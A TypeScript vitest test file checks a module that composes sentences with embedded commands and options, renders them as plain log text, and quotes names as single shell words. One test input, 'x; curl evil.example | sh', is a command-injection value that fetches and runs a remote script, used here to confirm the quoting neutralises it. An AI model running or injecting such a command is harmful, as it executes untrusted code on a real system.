import { expect, test } from 'vitest';
import { again, command, hasParts, joined, option, plain, shellWord, words } from './words.ts';

test('a sentence without parts is a string, and one with parts a list in which neighbouring texts are one', () => {
  expect(words`${2} of ${'three'}`).toBe('2 of three');
  const inner = words`, or ${option('yes')}`;
  expect(words`first ${'this'}: ${command('wake', 'team')}${inner}`).toEqual([
    'first this: ',
    { command: 'wake', namespace: 'team', args: [] },
    ', or ',
    { option: 'yes' },
  ]);
  expect(joined(['a', words`${again} b`, 'c'], '; ')).toEqual(['a; ', again, ' b; c']);
  expect(joined(['a', 'b'], ', ')).toBe('a, b');
});

test('a sentence with parts is told from every other list', () => {
  expect(hasParts(words`run ${command('deploy')}`)).toBe(true);
  for (const other of [['a', 'b'], [], [{ name: 'x' }], 'text', [again, 1]]) expect(hasParts(other)).toBe(false);
});

test('a log names operations, options and fields, and no command line', () => {
  const sentence = words`${{ field: 'etcdMembers', flag: '--etcd-members', value: '3' }}: ${command('restore', 'team', 'FILE')} with ${option('replace')}; ${again}`;
  expect(plain(sentence)).toBe('etcdMembers 3: restore with replace; do the same again');
});

test.each([
  ['csr-7x2k4', 'csr-7x2k4'],
  ['system:node.b-1', 'system:node.b-1'],
  ['x; curl evil.example | sh', "'x; curl evil.example | sh'"],
  ["it's", "'it'\\''s'"],
  ['--all', "-- '--all'"],
])('the name %s is one word of a command', (name, word) => {
  expect(shellWord(name)).toBe(word);
});
